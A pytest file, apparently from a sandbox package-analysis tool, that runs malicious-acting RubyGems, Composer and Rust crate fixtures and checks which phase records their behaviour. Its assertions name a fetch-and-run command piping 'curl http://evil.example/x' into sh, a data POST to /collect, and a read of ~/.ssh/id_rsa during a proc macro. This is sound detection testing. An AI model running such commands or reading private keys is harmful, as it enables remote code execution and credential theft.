"""RubyGems, Composer and crates.io in the real sandbox, through the CLI: fixture packages built with
the ecosystems' own tools (gem build, composer archive, cargo package) whose install, import and
execute behaviour must each land in its own phase.

One analysis per ecosystem covers several requirements at once (sandbox time is precious): the
gem has a native extension, the Composer package declares install scripts and is a plugin, the
crate's name is hyphenated, and each depends on a package served from a local guest mirror.
"""

from __future__ import annotations

import base64
import shutil

import pytest

from builders import behaviour_composer, behaviour_crate, behaviour_gem
from clirun import run_cli_json
from ecosystems.fakeregistry import serving
from test_behaviour import _check_not_in_other_phase, _check_phase
from pkgtrace.sandbox import layout

pytestmark = pytest.mark.sandbox


def _needs(tool: str):
    """The fixtures are built with the ecosystem's own tool, installed on the host by scripts/setup."""
    return pytest.mark.skipif(shutil.which(tool) is None, reason=f"{tool} is not installed on the host")


@pytest.fixture
def registry(monkeypatch):
    urls = ("PKGTRACE_RUBYGEMS_URL", "PKGTRACE_PACKAGIST_URL", "PKGTRACE_CRATES_URL")
    with serving(monkeypatch, urls) as reg:  # the CLI's child process inherits them
        yield reg


def _analyze(*args: str, results) -> dict:
    return run_cli_json("analyze", *args, "--mode", "dynamic", "--results", str(results),
                        "--timeout", "240")


def _phases(docs: dict) -> dict:
    return docs["report"]["dynamic"]["phases"]


def _output(docs: dict, phase: str) -> str:
    ossf = docs["dynamic"]["Analysis"][phase]
    return (base64.b64decode(ossf["Stdout"]) + base64.b64decode(ossf["Stderr"])).decode("utf-8", "replace")


def _check_execute_only(docs: dict, function: str) -> None:
    """The payload behind FUNCTION ran in execute, which records the call, and nowhere else."""
    _check_phase(docs, "execute")
    for other in ("install", "import"):
        _check_not_in_other_phase(docs, "execute", other)
    steps = [s for s in _phases(docs)["execute"]["steps"] if function in s["name"]]
    assert steps and steps[0]["status"] == "ok", _phases(docs)["execute"]["steps"]
    _check_step_did(steps[0])


def _check_step_did(step: dict) -> None:
    """What the call did, matched to it by time: the shell it started, the POST it sent."""
    assert ["sh", "-c", "curl http://evil.example/x | sh"] in step["did"]["commands"], step
    assert {"dst": "10.9.8.7", "port": 8080, "http": "POST /collect?phase=execute"} in step["did"]["network"]


def _check_install_import(docs: dict) -> None:
    for phase in ("install", "import"):
        _check_phase(docs, phase)
    _check_not_in_other_phase(docs, "install", "import")
    _check_not_in_other_phase(docs, "import", "install")


@_needs("gem")
def test_gem_from_the_registry(tmp_path, results, registry, monkeypatch):
    gem, mirror = behaviour_gem(tmp_path)
    registry.add_gem("pkgtrace-fixture-behaviour", "1.0.0", gem.read_bytes())
    monkeypatch.setenv("PKGTRACE_GUEST_MIRROR", str(mirror))
    docs = _analyze("rubygems", "pkgtrace-fixture-behaviour", results=results)
    assert docs["report"]["artifact"]["url"].startswith(registry.url)
    assert docs["report"]["dynamic"]["sandbox"]["registry_hosts"] == [
        "index.rubygems.org", "rubygems.global.ssl.fastly.net", "rubygems.org"]
    _check_install_import(docs)  # install: extconf.rb; import: require
    _check_execute_only(docs, "PkgtraceFixtureBehaviour.connect")
    # the native extension compiled at install and loads at import; the dependency came from the mirror
    assert "Successfully installed pkgtrace-fixture-dep-1.0.0" in _output(docs, "install")
    imported = {s["name"]: s["status"] for s in _phases(docs)["import"]["steps"]}
    assert imported == {"require pkgtrace_fixture_behaviour": "ok",
                        "require pkgtrace_fixture_behaviour/payload": "ok",
                        "require pkgtrace_fixture_native": "ok"}
    (exe,) = _phases(docs)["execute"]["entry_points"]
    # gems go to the package user's own gem folder (it cannot write the system's)
    assert exe["argv"] == [f"{layout.HOME}/.local/share/gem/ruby/bin/pkgtrace-fixture"] and exe["status"] == "ok"
    assert "usage: pkgtrace-fixture" in exe["output"]


@_needs("composer")
def test_composer_package_from_the_registry(tmp_path, results, registry, monkeypatch):
    archive, mirror = behaviour_composer(tmp_path)
    registry.add_composer("pkgtrace/fixture-behaviour", [("1.0.0", archive.read_bytes())])
    monkeypatch.setenv("PKGTRACE_GUEST_MIRROR", str(mirror))
    docs = _analyze("packagist", "pkgtrace/fixture-behaviour", results=results)
    _check_install_import(docs)  # install: the plugin's activate(); import: autoload "files"
    _check_execute_only(docs, "PkgtraceFixture\\Client->connect()")
    install = _phases(docs)["install"]
    # Composer never runs a dependency's scripts: the status says so and none ran
    assert install["scripts"] == ["post-install-cmd", "post-update-cmd"]
    assert "not run: Composer runs only the root project's scripts" in install["reason"]
    assert not any("script" in f["Path"] for f in docs["dynamic"]["Analysis"]["install"]["Files"])
    assert "Installing pkgtrace/fixture-dep (1.0.0)" in _output(docs, "install")
    # the plugin class cannot load outside Composer: recorded as that step's error, not a crash
    loaded = {s["name"]: s for s in _phases(docs)["import"]["steps"]}
    assert loaded["load PkgtraceFixture\\Client"]["status"] == "ok"
    assert "PluginInterface" in loaded["load PkgtraceFixture\\Plugin"]["error"]
    (exe,) = _phases(docs)["execute"]["entry_points"]
    assert exe["status"] == "ok" and "usage: pkgtrace-fixture" in exe["output"]


@_needs("cargo")
def test_hyphenated_crate_from_the_registry(tmp_path, results, registry, monkeypatch):
    crate, mirror = behaviour_crate(tmp_path)
    registry.add_crate("pkgtrace-fixture-behaviour", [("1.0.0", crate.read_bytes(), False)])
    monkeypatch.setenv("PKGTRACE_GUEST_MIRROR", str(mirror))
    docs = _analyze("crates.io", "pkgtrace-fixture-behaviour", results=results)
    assert docs["report"]["package"]["name"] == "pkgtrace-fixture-behaviour"
    assert docs["report"]["dynamic"]["sandbox"]["registry_hosts"] == [
        "crates.io", "index.crates.io", "static.crates.io"]
    assert set(docs["dynamic"]["Analysis"]) == {"install", "import"}  # no execute for Rust
    _check_install_import(docs)  # install: build.rs; import: a constructor in the linked library
    assert _phases(docs)["install"]["lib"] == "pkgtrace_fixture_behaviour"
    assert "Compiling pkgtrace-fixture-dep v1.0.0" in _output(docs, "install")
    assert "linked pkgtrace_fixture_behaviour" in _output(docs, "import")


@_needs("cargo")
def test_proc_macros_run_while_a_probe_crate_compiles(tmp_path, results):  # a local .crate
    from builders import cargo_package
    crate = cargo_package("crate_macro", tmp_path / "dist")
    docs = _analyze("crates.io", "--local", str(crate), results=results)
    install = _phases(docs)["install"]
    assert docs["dynamic"]["Analysis"]["install"]["Status"] == "completed", install["reason"]
    assert install["macros"] == ["derive Beacon"]
    assert install["reason"].startswith("exit 0: 1 proc macros invoked by a probe crate")
    files = {f["Path"]: f for f in docs["dynamic"]["Analysis"]["install"]["Files"]}
    assert files["/tmp/pkgtrace-fixture-macro-ran"]["Write"]
    assert files[f"{layout.HOME}/.ssh/id_rsa"]["Read"]
    assert "macro.example" in {d["hostname"] for d in install["dns"]}
